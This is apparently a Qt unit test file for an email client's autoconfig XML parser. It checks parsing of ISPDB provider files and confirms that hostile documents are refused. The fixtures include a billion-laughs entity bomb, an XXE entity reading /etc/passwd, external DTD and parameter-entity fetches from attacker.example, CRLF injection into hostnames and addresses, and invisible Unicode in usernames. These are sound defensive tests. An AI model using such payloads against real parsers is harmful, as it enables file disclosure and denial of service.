// AutoconfigParser: every ISPDB file read exactly as an independent Python reading reads it, and
// hostile documents (huge, deep, entity tricks, malformed) refused quickly with a clear kind.

#include "discovery/autoconfigparser.h"

#include "timing.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTest>

#include <ctime>

using namespace Qt::StringLiterals;

using namespace Postaci;

namespace {
QString ispdbDir()
{
    return qEnvironmentVariable("POSTACI_SHARED_DIR") + u"/ispdb"_s;
}

QByteArray wrapSmtp(const QByteArray &serverBody, const QByteArray &extra = {})
{
    return QByteArray("<?xml version=\"1.0\"?>\n<clientConfig version=\"1.1\"><emailProvider id=\"example.com\">"
                      "<domain>example.com</domain><displayName>Example</displayName>"
                      "<outgoingServer type=\"smtp\">")
        + serverBody + QByteArray("</outgoingServer></emailProvider>") + extra + QByteArray("</clientConfig>");
}

const QByteArray goodServer = "<hostname>smtp.example.com</hostname><port>465</port><socketType>SSL</socketType>"
                              "<username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>";
} // namespace

class TestAutoconfigParser : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsEveryIspdbFile();
    void matchesIndependentPythonReading();
    void readsProviderDetails();
    void mapsAuthentication_data();
    void mapsAuthentication();
    void resolvesPlaceholders();
    void plainHttpSourceIsFlagged();
    void dropsImplausibleHosts();
    void dropsInvisibleCharactersFromDisplayNames();
    void rejectsHostileDocuments_data();
    void rejectsHostileDocuments();
    void rejectsOversizedDocumentBeforeParsing();
    void acceptsBareDoctype();
    void acceptsDocumentAtDepthLimit();
};

void TestAutoconfigParser::readsEveryIspdbFile()
{
    const QDir dir(ispdbDir());
    const QStringList files = dir.entryList({u"*.xml"_s}, QDir::Files, QDir::Name);
    QVERIFY2(files.size() == 163, qPrintable(u"expected the 163 ISPDB files in %1, found %2"_s
                                                 .arg(dir.path()).arg(files.size())));
    int withSmtp = 0;
    for (const QString &name : files) {
        QFile file(dir.filePath(name));
        QVERIFY2(file.open(QIODevice::ReadOnly), qPrintable(name));
        const AutoconfigParseResult result = AutoconfigParser::parse(file.readAll());
        QVERIFY2(result.isOk(), qPrintable(name + u": "_s + result.error.toString()));
        QVERIFY2(!result.document->domains.isEmpty(), qPrintable(name));
        if (!result.document->smtpServers.isEmpty())
            ++withSmtp;
    }
    QCOMPARE(withSmtp, 163);
}

void TestAutoconfigParser::matchesIndependentPythonReading()
{
    QProcess python;
    const QString script = qEnvironmentVariable("POSTACI_SOURCE_DIR") + u"/tests/unit/discovery/ispdb_smtp_reading.py"_s;
    python.start(u"/usr/bin/python3"_s, {script, ispdbDir()});
    QVERIFY2(python.waitForFinished(30000), "the Python reading did not finish in 30 s");
    QVERIFY2(python.exitStatus() == QProcess::NormalExit && python.exitCode() == 0,
             python.readAllStandardError().constData());
    QJsonParseError jsonError;
    const QJsonObject reference = QJsonDocument::fromJson(python.readAllStandardOutput(), &jsonError).object();
    QVERIFY2(jsonError.error == QJsonParseError::NoError, qPrintable(jsonError.errorString()));
    QCOMPARE(reference.size(), 163);

    int entries = 0;
    for (auto it = reference.begin(); it != reference.end(); ++it) {
        const QString name = it.key();
        const QJsonObject expected = it.value().toObject();
        QFile file(ispdbDir() + QLatin1Char('/') + name);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const AutoconfigParseResult result = AutoconfigParser::parse(file.readAll());
        QVERIFY2(result.isOk(), qPrintable(name));
        const AutoconfigDocument &document = *result.document;

        QStringList expectedDomains;
        for (const QJsonValue &domain : expected.value("domains"_L1).toArray())
            expectedDomains.append(domain.toString());
        QVERIFY2(document.domains == expectedDomains, qPrintable(name + u": domains differ"_s));
        QCOMPARE(document.displayName, expected.value("displayName"_L1).toString());

        const QJsonArray servers = expected.value("smtp"_L1).toArray();
        QVERIFY2(document.smtpServers.size() == servers.size(),
                 qPrintable(u"%1: %2 SMTP servers, Python reads %3"_s
                                .arg(name).arg(document.smtpServers.size()).arg(servers.size())));
        for (int i = 0; i < servers.size(); ++i) {
            const QJsonObject want = servers.at(i).toObject();
            const AutoconfigSmtpServer &got = document.smtpServers.at(i);
            const QString where = u"%1 outgoingServer #%2: "_s.arg(name).arg(i);
            auto same = [&](const char *field, const QString &ours, const QString &theirs) {
                if (ours == theirs)
                    return true;
                qWarning().noquote() << where + QLatin1String(field) << "ours" << ours << "python" << theirs;
                return false;
            };
            QVERIFY(same("hostname", got.hostname, want.value("hostname"_L1).toString()));
            QVERIFY(same("port", QString::number(got.port), QString::number(want.value("port"_L1).toInt())));
            QVERIFY(same("socketType", got.socketType, want.value("socketType"_L1).toString()));
            QVERIFY(same("security", securityName(got.security), want.value("security"_L1).toString()));
            QVERIFY(same("username", got.usernameTemplate, want.value("username"_L1).toString()));
            QStringList wantAuth;
            for (const QJsonValue &auth : want.value("authentication"_L1).toArray())
                wantAuth.append(auth.toString());
            QVERIFY(same("authentication", got.authentications.join(QLatin1Char(',')), wantAuth.join(QLatin1Char(','))));
            QVERIFY(same("auth", authMethodName(got.auth), want.value("auth"_L1).toString()));
            QVERIFY(same("oauth2", got.oauth2Available ? u"true"_s : u"false"_s,
                         want.value("oauth2"_L1).toBool() ? u"true"_s : u"false"_s));
            ++entries;
        }
    }
    QCOMPARE(entries, 202); // every <outgoingServer type="smtp"> of the 163 files
}

void TestAutoconfigParser::readsProviderDetails()
{
    QFile file(ispdbDir() + u"/googlemail.com.xml"_s);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const AutoconfigParseResult result = AutoconfigParser::parse(file.readAll());
    QVERIFY(result.isOk());
    const AutoconfigDocument &document = *result.document;
    QCOMPARE(document.version, u"1.1"_s);
    QCOMPARE(document.providerId, u"googlemail.com"_s);
    QCOMPARE(document.displayName, u"Google Mail"_s);
    QCOMPARE(document.displayShortName, u"GMail"_s);
    QVERIFY(document.domains.contains(u"gmail.com"_s));
    QCOMPARE(document.documentation.size(), 4);
    QCOMPARE(document.documentation.first().url,
             QUrl(u"http://mail.google.com/support/bin/answer.py?answer=13273"_s));
    QCOMPARE(document.documentation.first().texts, QStringList{u"How to enable IMAP/POP3 in GMail"_s});
    QCOMPARE(document.enable.size(), 1);
    QCOMPARE(document.enable.first().url,
             QUrl(u"https://mail.google.com/mail/?ui=2&shva=1#settings/fwdandpop"_s));
    QCOMPARE(document.enable.first().texts, QStringList{u"You need to enable IMAP access"_s});
    QVERIFY(document.oauth2.has_value());
    QCOMPARE(document.oauth2->issuer, u"accounts.google.com"_s);
    QCOMPARE(document.oauth2->tokenUrl, QUrl(u"https://www.googleapis.com/oauth2/v3/token"_s));
    QVERIFY(document.hasOAuth2());
    QCOMPARE(document.smtpServers.size(), 1);
    QVERIFY(document.smtpServers.first().oauth2Available);
    QCOMPARE(document.smtpServers.first().auth, AuthMethod::Auto); // a password beats OAuth2

    // Several <domain>, the restriction element, and an outlook-style OAuth2-only server.
    QFile o2(ispdbDir() + u"/o2.pl.xml"_s);
    QVERIFY(o2.open(QIODevice::ReadOnly));
    const AutoconfigParseResult o2Result = AutoconfigParser::parse(o2.readAll());
    QVERIFY(o2Result.isOk());
    QCOMPARE(o2Result.document->domains,
             (QStringList{u"o2.pl"_s, u"go2.pl"_s, u"tlen.pl"_s, u"prokonto.pl"_s}));
    QCOMPARE(o2Result.document->smtpServers.first().restrictions, QStringList{u"client-IP-address"_s});

    QFile outlook(ispdbDir() + u"/hotmail.com.xml"_s);
    QVERIFY(outlook.open(QIODevice::ReadOnly));
    const AutoconfigParseResult outlookResult = AutoconfigParser::parse(outlook.readAll());
    QVERIFY(outlookResult.isOk());
    QCOMPARE(outlookResult.document->smtpServers.first().auth, AuthMethod::XOAuth2);
}

void TestAutoconfigParser::mapsAuthentication_data()
{
    QTest::addColumn<QStringList>("values");
    QTest::addColumn<AuthMethod>("expected");
    QTest::newRow("cleartext") << QStringList{u"password-cleartext"_s} << AuthMethod::Auto;
    QTest::newRow("plain alias") << QStringList{u"plain"_s} << AuthMethod::Auto;
    QTest::newRow("encrypted") << QStringList{u"password-encrypted"_s} << AuthMethod::CramMd5;
    QTest::newRow("secure alias") << QStringList{u"secure"_s} << AuthMethod::CramMd5;
    QTest::newRow("oauth2 only") << QStringList{u"OAuth2"_s} << AuthMethod::XOAuth2;
    QTest::newRow("oauth2 then password") << QStringList{u"OAuth2"_s, u"password-cleartext"_s} << AuthMethod::Auto;
    QTest::newRow("encrypted then cleartext") << QStringList{u"password-encrypted"_s, u"password-cleartext"_s} << AuthMethod::Auto;
    QTest::newRow("none") << QStringList{u"none"_s} << AuthMethod::None;
    QTest::newRow("client-IP-address") << QStringList{u"client-IP-address"_s} << AuthMethod::None;
    QTest::newRow("oauth2 beats none") << QStringList{u"none"_s, u"OAuth2"_s} << AuthMethod::XOAuth2;
    QTest::newRow("unsupported only") << QStringList{u"GSSAPI"_s, u"NTLM"_s} << AuthMethod::Auto;
    QTest::newRow("nothing") << QStringList{} << AuthMethod::Auto;
}

void TestAutoconfigParser::mapsAuthentication()
{
    QFETCH(QStringList, values);
    QFETCH(AuthMethod, expected);
    QCOMPARE(AutoconfigParser::bestAuthMethod(values), expected);

    QByteArray body = "<hostname>smtp.example.com</hostname><port>587</port><socketType>STARTTLS</socketType>";
    for (const QString &value : values)
        body += "<authentication>" + value.toUtf8() + "</authentication>";
    const AutoconfigParseResult result = AutoconfigParser::parse(wrapSmtp(body));
    QVERIFY2(result.isOk(), qPrintable(result.error.toString()));
    QCOMPARE(result.document->smtpServers.first().auth, expected);
    QCOMPARE(result.document->smtpServers.first().oauth2Available, values.contains(u"OAuth2"_s));
}

void TestAutoconfigParser::resolvesPlaceholders()
{
    const QByteArray xml = QByteArray("<clientConfig version=\"1.1\"><emailProvider id=\"x\">"
                                      "<domain>inbox.example</domain><domain>other.example</domain>"
                                      "<outgoingServer type=\"smtp\"><hostname>mail.%EMAILDOMAIN%</hostname>"
                                      "<port>465</port><socketType>SSL</socketType><username>%EMAILLOCALPART%</username>"
                                      "</outgoingServer>"
                                      "<outgoingServer type=\"smtp\"><hostname>smtp.inbox.example</hostname>"
                                      "<port>25</port><socketType>plain</socketType>"
                                      "<username>%EMAILLOCALPART%.%EMAILDOMAIN%</username></outgoingServer>"
                                      "<outgoingServer type=\"smtp\"><hostname>smtp2.inbox.example</hostname>"
                                      "<port>587</port><socketType>STARTTLS</socketType></outgoingServer>"
                                      "<outgoingServer type=\"ews\"><hostname>ignored.example</hostname></outgoingServer>"
                                      "</emailProvider></clientConfig>");
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    QVERIFY2(result.isOk(), qPrintable(result.error.toString()));
    QCOMPARE(result.document->domains, (QStringList{u"inbox.example"_s, u"other.example"_s}));
    QCOMPARE(result.document->smtpServers.size(), 3);

    const QList<ServerCandidate> candidates = result.document->toCandidates(
        u"Ayşe.Yılmaz@Other.Example"_s, CandidateSource::ProviderAutoconfig,
        u"https://autoconfig.other.example/mail/config-v1.1.xml"_s);
    QCOMPARE(candidates.size(), 3);
    QCOMPARE(candidates.at(0).host, u"mail.other.example"_s);
    QCOMPARE(candidates.at(0).username, u"Ayşe.Yılmaz"_s);
    QCOMPARE(candidates.at(0).security, Security::ImplicitTls);
    QVERIFY(candidates.at(0).trusted);
    QVERIFY(candidates.at(0).warnings.isEmpty());
    QCOMPARE(candidates.at(0).bestSource(), CandidateSource::ProviderAutoconfig);
    QCOMPARE(candidates.at(0).origins.first().detail, u"https://autoconfig.other.example/mail/config-v1.1.xml"_s);
    QCOMPARE(candidates.at(1).username, u"Ayşe.Yılmaz.other.example"_s);
    QCOMPARE(candidates.at(1).warnings, (QList<CandidateWarning>{CandidateWarning::Plaintext, CandidateWarning::Port25}));
    // No <username>: the full address, as the user typed it.
    QCOMPARE(candidates.at(2).username, u"Ayşe.Yılmaz@Other.Example"_s);
    QCOMPARE(candidates.at(2).providerName, QString());

    // A bare domain keeps the local-part placeholders visible.
    const QList<ServerCandidate> domainOnly = result.document->toCandidates(u"inbox.example"_s,
                                                                            CandidateSource::Ispdb, QString());
    QCOMPARE(domainOnly.at(0).host, u"mail.inbox.example"_s);
    QCOMPARE(domainOnly.at(0).username, u"%EMAILLOCALPART%"_s);

    // Injection at the boundary: no candidates for an address with CR/LF.
    QVERIFY(result.document->toCandidates(u"a@inbox.example\r\nRCPT TO:<x>"_s, CandidateSource::Ispdb, QString()).isEmpty());
}

void TestAutoconfigParser::plainHttpSourceIsFlagged()
{
    const AutoconfigParseResult result = AutoconfigParser::parse(wrapSmtp(goodServer));
    QVERIFY(result.isOk());
    const QList<ServerCandidate> candidates = result.document->toCandidates(
        u"user@example.com"_s, CandidateSource::PlainHttpAutoconfig, u"http://example.com/x"_s);
    QCOMPARE(candidates.size(), 1);
    QVERIFY(!candidates.first().trusted);
    QCOMPARE(candidates.first().warnings, QList<CandidateWarning>{CandidateWarning::PlainHttpSource});
    QCOMPARE(candidates.first().providerName, u"Example"_s);
}

void TestAutoconfigParser::dropsImplausibleHosts()
{
    // A placeholder nobody defines, or a host with a path: never handed to a socket.
    const QByteArray xml = wrapSmtp("<hostname>smtp.%UNKNOWN%.example</hostname><port>465</port><socketType>SSL</socketType>")
                               .replace("</emailProvider>",
                                        "<outgoingServer type=\"smtp\"><hostname>evil.example/x</hostname><port>465</port>"
                                        "<socketType>SSL</socketType></outgoingServer></emailProvider>");
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    QVERIFY2(result.isOk(), qPrintable(result.error.toString()));
    QCOMPARE(result.document->smtpServers.size(), 2);
    QVERIFY(result.document->toCandidates(u"a@example.com"_s, CandidateSource::Ispdb, QString()).isEmpty());
}

void TestAutoconfigParser::rejectsHostileDocuments_data()
{
    using Kind = AutoconfigParseError::Kind;
    QTest::addColumn<QByteArray>("xml");
    QTest::addColumn<Kind>("kind");

    QTest::newRow("empty") << QByteArray() << Kind::Empty;
    QTest::newRow("not xml") << QByteArray("<html><body>404 Not Found</body>") << Kind::NotClientConfig;
    QTest::newRow("unclosed") << QByteArray("<clientConfig><emailProvider>") << Kind::Malformed;
    QTest::newRow("mismatched tags") << QByteArray("<clientConfig><emailProvider></clientConfig></emailProvider>") << Kind::Malformed;
    QTest::newRow("garbage") << QByteArray("\x00\x01\x02 binary", 10) << Kind::Malformed;
    QTest::newRow("two roots") << QByteArray("<clientConfig><emailProvider/></clientConfig><clientConfig/>") << Kind::Malformed;
    QTest::newRow("wrong root") << QByteArray("<autodiscover><emailProvider/></autodiscover>") << Kind::NotClientConfig;
    QTest::newRow("no emailProvider") << QByteArray("<clientConfig version=\"1.1\"></clientConfig>") << Kind::MissingElement;

    QByteArray laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE clientConfig [\n<!ENTITY lol \"lol\">\n";
    laughs += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n";
    for (int i = 2; i <= 9; ++i) {
        laughs += "<!ENTITY lol" + QByteArray::number(i) + " \"";
        for (int j = 0; j < 10; ++j)
            laughs += "&lol" + QByteArray::number(i - 1) + ";";
        laughs += "\">\n";
    }
    laughs += "]>\n<clientConfig><emailProvider id=\"x\"><domain>&lol9;</domain></emailProvider></clientConfig>";
    QTest::newRow("billion laughs") << laughs << Kind::DoctypeNotAllowed;

    QTest::newRow("external entity") << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE clientConfig [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                                                   "<clientConfig><emailProvider><domain>&xxe;</domain></emailProvider></clientConfig>")
                                     << Kind::DoctypeNotAllowed;
    QTest::newRow("external dtd") << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE clientConfig SYSTEM \"http://attacker.example/x.dtd\">"
                                                "<clientConfig><emailProvider/></clientConfig>")
                                  << Kind::DoctypeNotAllowed;
    QTest::newRow("parameter entity") << QByteArray("<!DOCTYPE clientConfig [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>"
                                                    "<clientConfig><emailProvider/></clientConfig>")
                                      << Kind::DoctypeNotAllowed;
    QTest::newRow("internal subset without entities") << QByteArray("<!DOCTYPE clientConfig [<!ELEMENT clientConfig ANY>]>"
                                                                    "<clientConfig><emailProvider/></clientConfig>")
                                                      << Kind::DoctypeNotAllowed;
    QTest::newRow("undeclared entity") << wrapSmtp("<hostname>&host;</hostname><port>465</port><socketType>SSL</socketType>")
                                       << Kind::Malformed;

    QByteArray deep = "<clientConfig><emailProvider id=\"x\">";
    for (int i = 0; i < 50000; ++i) // 150 KB: under the size limit, far over the depth limit
        deep += "<a>";
    QTest::newRow("deep nesting") << deep << Kind::TooDeep;

    QTest::newRow("missing hostname") << wrapSmtp("<port>465</port><socketType>SSL</socketType>") << Kind::MissingElement;
    QTest::newRow("empty hostname") << wrapSmtp("<hostname> </hostname><port>465</port><socketType>SSL</socketType>") << Kind::MissingElement;
    QTest::newRow("missing port") << wrapSmtp("<hostname>smtp.example.com</hostname><socketType>SSL</socketType>") << Kind::MissingElement;
    QTest::newRow("missing socketType") << wrapSmtp("<hostname>smtp.example.com</hostname><port>465</port>") << Kind::MissingElement;
    QTest::newRow("port not a number") << wrapSmtp("<hostname>smtp.example.com</hostname><port>abc</port><socketType>SSL</socketType>") << Kind::InvalidValue;
    QTest::newRow("port zero") << wrapSmtp("<hostname>smtp.example.com</hostname><port>0</port><socketType>SSL</socketType>") << Kind::InvalidValue;
    QTest::newRow("port too big") << wrapSmtp("<hostname>smtp.example.com</hostname><port>65536</port><socketType>SSL</socketType>") << Kind::InvalidValue;
    QTest::newRow("negative port") << wrapSmtp("<hostname>smtp.example.com</hostname><port>-25</port><socketType>SSL</socketType>") << Kind::InvalidValue;
    QTest::newRow("unknown socketType") << wrapSmtp("<hostname>smtp.example.com</hostname><port>465</port><socketType>TLS</socketType>") << Kind::InvalidValue;
    QTest::newRow("CRLF in hostname") << wrapSmtp("<hostname>smtp.example.com&#13;&#10;RCPT</hostname><port>465</port><socketType>SSL</socketType>") << Kind::InvalidValue;
    QTest::newRow("space in username") << wrapSmtp(goodServer + "<username>a b</username>").replace("<username>%EMAILADDRESS%</username>", "")
                                       << Kind::InvalidValue;
    // docs/security.md#outside-text: a user name that reads differently from what it is.
    const QByteArray invisible[][2] = {{"bidi override", "&#x202E;"}, {"bidi isolate", "&#x2066;"},
                                       {"zero-width space", "&#x200B;"}, {"zero-width joiner", "&#x200D;"},
                                       {"byte order mark", "&#xFEFF;"}, {"tag character", "&#xE0041;"},
                                       {"C1 control (CSI)", "&#x9B;"}};
    for (const auto &[name, character] : invisible) {
        QTest::newRow(QByteArray("username with " + name).constData())
                << wrapSmtp(goodServer + "<username>ad" + character + "min</username>").replace("<username>%EMAILADDRESS%</username>", "")
                << Kind::InvalidValue;
    }
}

void TestAutoconfigParser::rejectsHostileDocuments()
{
    QFETCH(QByteArray, xml);
    QFETCH(AutoconfigParseError::Kind, kind);
    // CPU time, not wall time: a machine busy compiling must not make this flaky; ten times the
    // budget under the sanitizers (timing.h).
    const std::clock_t start = std::clock();
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    const double elapsed = (std::clock() - start) * 1000.0 / CLOCKS_PER_SEC;
    QVERIFY2(!result.isOk(), "a hostile document was accepted");
    QVERIFY2(result.error.kind == kind, qPrintable(u"got %1"_s.arg(result.error.toString())));
    QVERIFY2(!result.error.kindName().isEmpty(), "every error kind has a name");
    QVERIFY2(elapsed < 1000 * Test::CpuBudgetFactor, qPrintable(u"took %1 ms of CPU"_s.arg(elapsed)));
}

void TestAutoconfigParser::rejectsOversizedDocumentBeforeParsing()
{
    // A valid document padded with a comment past the limit: refused on size alone.
    QByteArray xml = wrapSmtp(goodServer);
    xml.insert(xml.indexOf("<clientConfig"), "<!--" + QByteArray(AutoconfigParser::maxDocumentBytes, 'x') + "-->");
    const std::clock_t start = std::clock();
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    const double elapsed = (std::clock() - start) * 1000.0 / CLOCKS_PER_SEC;
    QVERIFY(!result.isOk());
    QCOMPARE(result.error.kind, AutoconfigParseError::Kind::TooLarge);
    QVERIFY2(elapsed < 100 * Test::CpuBudgetFactor, qPrintable(u"took %1 ms of CPU"_s.arg(elapsed)));

    // Just under the limit is fine.
    QByteArray fits = wrapSmtp(goodServer);
    const qsizetype room = AutoconfigParser::maxDocumentBytes - fits.size() - 7;
    fits.insert(fits.indexOf("<clientConfig"), "<!--" + QByteArray(room, 'x') + "-->");
    QCOMPARE(fits.size(), AutoconfigParser::maxDocumentBytes);
    QVERIFY(AutoconfigParser::parse(fits).isOk());
}

void TestAutoconfigParser::acceptsBareDoctype()
{
    QByteArray xml = wrapSmtp(goodServer);
    xml.insert(xml.indexOf("<clientConfig"), "<!DOCTYPE clientConfig>\n");
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    QVERIFY2(result.isOk(), qPrintable(result.error.toString()));
}

void TestAutoconfigParser::acceptsDocumentAtDepthLimit()
{
    // clientConfig/emailProvider + 30 levels = 32: allowed; one more is not.
    QByteArray open, close;
    for (int i = 0; i < AutoconfigParser::maxDepth - 2; ++i) {
        open += "<x>";
        close += "</x>";
    }
    const QByteArray atLimit = "<clientConfig><emailProvider>" + open + close + "</emailProvider></clientConfig>";
    QVERIFY(AutoconfigParser::parse(atLimit).isOk());
    const QByteArray over = "<clientConfig><emailProvider>" + open + "<x></x>" + close + "</emailProvider></clientConfig>";
    QCOMPARE(AutoconfigParser::parse(over).error.kind, AutoconfigParseError::Kind::TooDeep);
}

void TestAutoconfigParser::dropsInvisibleCharactersFromDisplayNames()
{
    // A provider name is only shown: control and format characters are dropped at parse time
    // (docs/security.md#outside-text), the document is still used.
    QByteArray xml = wrapSmtp(goodServer);
    xml.replace("<displayName>Example</displayName>",
                "<displayName>Ex&#x202E;am&#x200B;ple&#x9B;2J&#xE0041; Mail&#x2028;</displayName>"
                "<displayShortName>&#x2067;Ex&#xFEFF;</displayShortName>");
    const AutoconfigParseResult result = AutoconfigParser::parse(xml);
    QVERIFY2(result.isOk(), qPrintable(result.error.toString()));
    QCOMPARE(result.document->displayName, u"Example2J Mail"_s);
    QCOMPARE(result.document->displayShortName, u"Ex"_s);
    const QList<ServerCandidate> candidates
            = result.document->toCandidates(u"user@example.com"_s, CandidateSource::ProviderAutoconfig, QString());
    QCOMPARE(candidates.size(), 1);
    QCOMPARE(candidates.first().providerName, u"Example2J Mail"_s);
}

QTEST_GUILESS_MAIN(TestAutoconfigParser)
#include "tst_autoconfigparser.moc"
